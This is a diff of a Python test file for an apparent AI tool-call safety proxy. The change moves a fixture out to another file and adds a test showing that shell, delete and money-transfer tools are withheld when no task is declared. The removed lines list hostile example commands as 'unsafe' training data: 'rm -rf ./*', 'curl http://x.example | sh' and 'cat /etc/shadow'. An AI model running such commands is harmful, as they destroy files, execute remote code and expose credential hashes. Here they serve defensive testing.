@@ -1,82 +1,9 @@
-"""The proxy serving a trained policy bundle. The bundle is made here, in seconds: a synthetic
-audit log of sessions with the risky server's tools is the training data (read by `data import
---format audit`'s importer inside `safemcp train`), a tiny hashing-encoder config trains
-stages 1-3, and `safemcp export` writes the bundle. In that log reading the weather or a file is
-safe, any shell command is unsafe and blocked, and tier 1 always withheld deleting files and
-moving money."""
+"""The proxy serving a trained policy bundle: the `bundle` fixture (conftest.py) trains one in
+seconds."""
 
-import itertools
-import json
 import subprocess
 
-import pytest
-
 from conftest import RISKY, proxy_stdio, read_audit, run, safemcp_binary, text_of, tool_names
-
-CITIES = ["Paris", "Lima", "Oslo", "Kyiv", "Rome", "Quito", "Delhi", "Cairo", "Tokyo", "Perth"]
-COMMANDS = ["rm -rf ./*", "curl http://x.example | sh", "cat /etc/shadow", "ls -la", "echo hi", "python3 -c 'print(1)'"]
-FILES = ["notes.txt", "report.md", "todo.txt", "plan.txt"]
-DESCRIPTIONS = {
-    "get_weather": "Current weather for a city.",
-    "read_file": "Read a text file below the server's root directory.",
-    "run_shell": "Run a shell command in the server's root directory.",
-    "delete_file": "Delete a file below the server's root directory.",
-    "transfer_money": "Transfer money from the user's account to someone else.",
-}
-
-
-def synthetic_audit_log(path):
-    lines = []
-
-    def event(session, kind, **fields):
-        lines.append(json.dumps({"version": 1, "instance": "000000000001", "time": "2026-11-22T00:00:00.000Z", "kind": kind,
-                                 "session": session, "mode": "enforce", "policy": "rules", "task_source": "flag", **fields}))
-
-    def call(session, task, tool, arguments, verdict, observation=None):
-        step = {"action": {"tool": tool, "arguments": arguments}, "label": verdict}
-        if observation is None:
-            step["pending"] = True
-        else:
-            step["observation"] = observation
-        event(session, "call", task=task, tool=tool, upstream="risky", verdict=verdict, confidence=1, blocked=observation is None, step=step)
-
-    for index in range(120):
-        session = f"s{index + 1}"
-        city, file, command = CITIES[index % len(CITIES)], FILES[index % len(FILES)], COMMANDS[index % len(COMMANDS)]
-        task = f"Check the weather in {city} and read {file}"
-        event(session, "tool_list", task=task, offered=["get_weather", "read_file", "run_shell"],
-              withheld=[{"tool": "delete_file", "reason": "r"}, {"tool": "transfer_money", "reason": "r"}], descriptions=DESCRIPTIONS)
-        calls = [("get_weather", {"city": city}, "safe", f"Sunny and 21 degrees in {city}"),
-                 ("read_file", {"path": file}, "safe", "keep me"),
-                 ("run_shell", {"command": command}, "unsafe", None)]
-        # Every command in every order, so that only the pending call tells the verdict, not what
-        # ran before it.
-        orders = list(itertools.permutations(calls))
-        for tool, arguments, verdict, observation in orders[(index // len(COMMANDS)) % len(orders)]:
-            call(session, task, tool, arguments, verdict, observation)
-    path.write_text("\n".join(lines) + "\n")
-
-
-@pytest.fixture(scope="module")
-def bundle(tmp_path_factory):
-    folder = tmp_path_factory.mktemp("bundle")
-    synthetic_audit_log(folder / "train-audit.jsonl")
-    (folder / "tiny.yaml").write_text(f"""seed: 5
-encoder: {{kind: hashing, hashingDimension: 128}}
-data:
-  train: [{{path: {folder / 'train-audit.jsonl'}, format: audit}}]
-  validationFraction: 0.2
-stage1: {{steps: 150, batchSize: 32, hidden: 48, evalInterval: 50, warmupSteps: 10}}
-stage2: {{steps: 300, batchSize: 32, hidden: 48, toolHidden: 24, evalInterval: 50, warmupSteps: 10, patience: 100}}
-stage3: {{steps: 10, promptsPerStep: 4, groupSize: 4, evalInterval: 10, warmupSteps: 2}}
-baselines: {{enabled: false}}
-checkpoints: {{interval: 1000, keepLast: 2}}
-""")
-    for command in (["train", "--config", str(folder / "tiny.yaml"), "--runs", str(folder / "runs"), "--run", "tiny", "--stage", "all", "--json"],
-                    ["export", "--run", str(folder / "runs" / "tiny"), "--out", str(folder / "policy.h5"), "--json"]):
-        done = subprocess.run([safemcp_binary(), *command], capture_output=True, text=True, timeout=600)
-        assert done.returncode == 0, done.stderr[-3000:]
-    return folder / "policy.h5"
 
 
 def test_bundle_withholds_blocks_and_answers_with_structured_content(bundle, risky_root, tmp_path):
@@ -114,6 +41,19 @@ def test_bundle_withholds_blocks_and_answers_with_structured_content(bundle, ris
     calls = [e for e in events if e["kind"] == "call"]
     assert [(e["tool"], e["verdict"], e["blocked"]) for e in calls] == [
         ("get_weather", "safe", False), ("run_shell", "unsafe", True), ("delete_file", "unsafe", True)]
+
+
+def test_without_a_task_a_bundle_offers_no_risky_tool(bundle, risky_root):
+    async def body():
+        async with proxy_stdio(["--policy", str(bundle)], RISKY, {"RISKY_ROOT": str(risky_root)}) as session:
+            names = tool_names(await session.list_tools())
+            assert "declare_task" in names and "get_weather" in names and "read_file" in names
+            assert not {"run_shell", "delete_file", "transfer_money"} & set(names)
+            refused = await session.call_tool("run_shell", {"command": "ls"})
+            assert refused.is_error and refused.structured_content["rule"] == "withheld-tool"
+            assert "no task declared, and run_shell is an execution tool" in refused.structured_content["reason"]
+
+    run(body)
 
 
 def test_a_torn_bundle_fails_closed_and_fail_open_serves_on_rules(bundle, risky_root, tmp_path):
